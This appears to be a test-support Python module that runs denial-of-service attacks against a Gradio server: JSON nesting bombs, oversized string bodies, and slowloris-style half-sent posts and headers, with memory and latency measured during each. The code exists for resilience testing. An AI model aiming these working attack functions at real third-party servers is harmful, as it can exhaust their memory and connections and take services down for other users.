"""Attacks that try to exhaust a server's memory, time or connections."""

from __future__ import annotations

import json
import socket
import threading
import time
import urllib.request
from collections import Counter
from collections.abc import Iterable, Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import ExitStack, contextmanager, suppress
from dataclasses import dataclass, field
from urllib.parse import urlsplit

import httpx
import numpy as np

from tests.support.api import JSON, find_listener
from tests.support.memory import peak_mb, reset_peak, resident_mb

# An event of the page that is not queued and refuses the bombs' values.
UNQUEUED_EVENT = "/gradio_api/run/choose_1"


@dataclass
class Attack:
    """Measurements of an attack.

    `statuses` counts answers by status, 0 where the connection was cut and -1 where the page did
    not load. `held` counts connections still open at the end. `before`, `peak` and `after` are the
    server's memory in MB, 0 where unknown; `waits` are seconds that another visitor waited.
    """

    statuses: Counter[int] = field(default_factory=Counter)
    held: int = 0
    before: float = 0
    peak: float = 0
    after: float = 0
    waits: list[float] = field(default_factory=list)
    seconds: float = 0

    @property
    def longest_wait(self) -> float:
        return float(np.max(self.waits, initial=0))


@contextmanager
def _watch_server(address: str) -> Iterator[Attack]:
    """Measure an attack while another visitor loads the page ten times a second."""
    seen, over = Attack(), threading.Event()
    process = find_listener(urlsplit(address).port or 80)
    if process:
        reset_peak(process)
        seen.before = resident_mb(process)

    def look() -> None:
        while not over.is_set():
            start = time.perf_counter()
            try:
                urllib.request.urlopen(address, timeout=60).close()
            except OSError:
                seen.statuses[-1] += 1  # The page is dead.
            seen.waits.append(time.perf_counter() - start)
            over.wait(0.1)

    visitor = threading.Thread(target=look)
    start = time.perf_counter()
    visitor.start()
    try:
        yield seen
    finally:
        over.set()
        visitor.join()
        seen.seconds = time.perf_counter() - start
        if process:
            seen.peak, seen.after = peak_mb(process), resident_mb(process)


def send_value_bombs(
    address: str, count: int, at_once: int = 1, values: int = 633_000, path: str = UNQUEUED_EVENT
) -> Attack:
    """Send bodies of empty lists, 3 bytes each but 60 once parsed, each in its own session."""
    bomb = b"[" + b"[]," * values + b"0]"

    def body(number: int) -> bytes:
        return b'{"data": [%s, null], "session_hash": "bomb%d"}' % (bomb, number)

    return _send_bodies(address, path, map(body, range(count)), at_once)


def send_strings(
    address: str, count: int, size: int = 15_990_000, path: str = "/gradio_api/mcp/"
) -> Attack:
    """Send `count` bodies at once, each one string of `size` bytes."""
    body = json.dumps(["a" * size]).encode()
    return _send_bodies(address, path, [body] * count, at_once=count)


def _send_bodies(address: str, path: str, bodies: Iterable[bytes], at_once: int) -> Attack:
    def send(body: bytes) -> int:
        try:
            return httpx.post(address + path, content=body, headers=JSON, timeout=120).status_code
        except httpx.TransportError:
            return 0

    with _watch_server(address) as seen, ThreadPoolExecutor(at_once) as pool:
        seen.statuses.update(pool.map(send, bodies))
    return seen


def hold_half_sent_bodies(
    address: str, count: int, size: int = 1_990_000, seconds: float = 30, path: str = UNQUEUED_EVENT
) -> Attack:
    """Hold `count` posts open after 99% of their `size` bytes."""
    host = urlsplit(address).netloc
    head = f"POST {path} HTTP/1.1\r\nhost: {host}\r\ncontent-type: application/json\r\n"
    start = f'{head}content-length: {size}\r\n\r\n["'.encode() + b"a" * int(size * 0.99)
    return _hold(address, count, start, seconds)


def hold_half_sent_requests(address: str, count: int, seconds: float = 30) -> Attack:
    """Hold `count` requests open whose headers never end."""
    return _hold(address, count, b"GET / HTTP/1.1\r\nhost: x\r\n", seconds)


def _hold(address: str, count: int, start: bytes, seconds: float) -> Attack:
    """Start `count` requests; wait up to `seconds` for the server to answer or cut them."""
    place = urlsplit(address)
    with _watch_server(address) as seen, ExitStack() as stack:
        latest, lines = time.monotonic() + seconds, []
        for _ in range(count):
            line = socket.create_connection((place.hostname, place.port), timeout=10)
            lines.append(stack.enter_context(line))
            with suppress(OSError):  # The answer, if there is one, says why.
                line.sendall(start)
        for line in lines:
            line.settimeout(max(0.001, latest - time.monotonic()))
            try:
                answer = line.recv(100)
                seen.statuses[int(answer.split()[1]) if answer else 0] += 1
            except TimeoutError:
                seen.held += 1
            except OSError:
                seen.statuses[0] += 1
    return seen
